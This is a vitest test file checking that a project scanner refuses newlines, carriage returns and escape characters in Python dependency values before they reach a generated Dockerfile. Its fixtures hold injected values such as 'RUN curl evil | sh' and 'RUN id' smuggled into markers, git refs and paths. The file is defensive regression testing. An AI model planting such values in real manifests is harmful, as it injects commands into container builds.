import { describe, expect, it } from 'vitest';
import { formatSource } from '../../src/errors.js';
import { scanProject } from '../../src/project/scan.js';
import { tempProject, userErrorOf } from './temp-project.js';

/**
 * The security class of issue 10: a newline inside a TOML (or JSON) string used to reach the
 * Dockerfile and become an instruction of its own. Each is refused at its file:line instead.
 */
const PEP621 = (dep: string) =>
  `[project]\nname = "app"\nversion = "1"\ndependencies = [\n  ${JSON.stringify(dep)},\n]\n`;

const CASES: [string, Record<string, string>, string][] = [
  [
    'a [project] marker',
    { 'pyproject.toml': PEP621('flask; python_version > "3.8\nRUN curl evil | sh"') },
    'pyproject.toml:5',
  ],
  [
    'a [project] direct URL',
    { 'pyproject.toml': PEP621('pkg @ https://example.com/pkg.whl\nRUN id') },
    'pyproject.toml:5',
  ],
  [
    'a Pipfile git ref',
    {
      Pipfile: '[packages]\nlib = {git = "https://github.com/o/lib.git", ref = "v1\\nRUN id"}\n',
    },
    'Pipfile:2',
  ],
  ['a Pipfile path', { Pipfile: '[packages]\nlib = {path = "./lib\\nRUN id"}\n' }, 'Pipfile:2'],
  ['a Pipfile file URL', { Pipfile: '[packages]\nlib = {file = "./lib.whl\\nRUN id"}\n' }, 'Pipfile:2'],
  [
    'a Poetry git branch',
    {
      'pyproject.toml':
        '[tool.poetry]\nname = "app"\nversion = "1"\n[tool.poetry.dependencies]\npython = "^3.11"\nlib = {git = "https://github.com/o/lib.git", branch = "main\\nRUN id"}\n',
    },
    'pyproject.toml:6',
  ],
  [
    'a Poetry path in a multi-line string',
    {
      'pyproject.toml':
        '[tool.poetry]\nname = "app"\nversion = "1"\n[tool.poetry.dependencies]\npython = "^3.11"\nlib = {path = """lib\nRUN id"""}\n',
    },
    'pyproject.toml:6',
  ],
  [
    'an ESC sequence in a requirements line',
    { 'requirements.txt': 'flask==3.0.0\nrich==13.0 ; sys_platform == "\x1b[2Jlinux"\n' },
    'requirements.txt:2',
  ],
  [
    'a CR alone in a requirements line',
    { 'requirements.txt': 'flask==3.0.0 ; python_version > "3.8\rRUN id"\n' },
    'requirements.txt:1',
  ],
  [
    'a uv source path',
    {
      'pyproject.toml': `${PEP621('lib')}[tool.uv.sources]\nlib = { path = "lib\\nRUN id" }\n`,
    },
    'pyproject.toml:',
  ],
];

describe('a control character in a value read from a project is refused at its line', () => {
  it.each(CASES)('%s', async (_, files, where) => {
    const root = await tempProject({ 'app.py': 'print(1)\n', ...files });
    const e = await userErrorOf(scanProject(root));
    expect(formatSource(e.where ?? { file: '?' })).toContain(where);
    // One line, whatever the value held: the message cannot forge output lines either.
    expect(e.message).not.toMatch(/[\n\r\x1b]/);
    expect(e.hint.length).toBeGreaterThan(10);
  });

  it('a multi-line description elsewhere in pyproject.toml is fine (only values we use are checked)', async () => {
    const root = await tempProject({
      'app.py': 'print(1)\n',
      'pyproject.toml': `${PEP621('flask==3.0.0').replace('version = "1"', 'version = "1"\ndescription = """two\nlines"""')}[tool.black]\nextend-exclude = '''\n/(\n  build\n)/\n'''\n`,
    });
    const p = await scanProject(root);
    expect(p.dependencies.map((d) => d.name)).toEqual(['flask']);
  });
});
